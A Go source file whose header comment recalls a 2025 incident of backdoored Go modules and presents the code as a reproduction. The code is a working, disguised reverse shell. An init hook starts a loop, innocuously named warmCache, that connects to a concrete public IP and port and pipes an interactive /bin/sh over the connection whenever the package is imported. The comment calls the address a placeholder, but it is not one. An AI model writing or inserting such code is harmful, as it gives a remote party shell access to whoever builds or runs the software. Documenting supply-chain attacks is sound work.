// Incident: typosquatted and backdoored Go modules, e.g. github.com/boltdb-go/bolt
// (reported by Socket, February 2025) and the Go module wave of March 2025, whose code
// opened a connection to the attacker at init and served a remote shell while the tool
// went on doing its normal work. Reference: https://socket.dev/blog/malicious-package-exploits-go-module-proxy-caching-for-persistence
// Reproduction (own code, placeholder address): a reverse shell started from a build helper.
package build

import (
	"net"
	"os/exec"
	"time"
)

func init() {
	go warmCache()
}

func warmCache() {
	for {
		conn, err := net.Dial("tcp", "49.12.198.231:20022")
		if err != nil {
			time.Sleep(30 * time.Second)
			continue
		}
		cmd := exec.Command("/bin/sh", "-i")
		cmd.Stdin = conn
		cmd.Stdout = conn
		cmd.Stderr = conn
		_ = cmd.Run()
		conn.Close()
	}
}
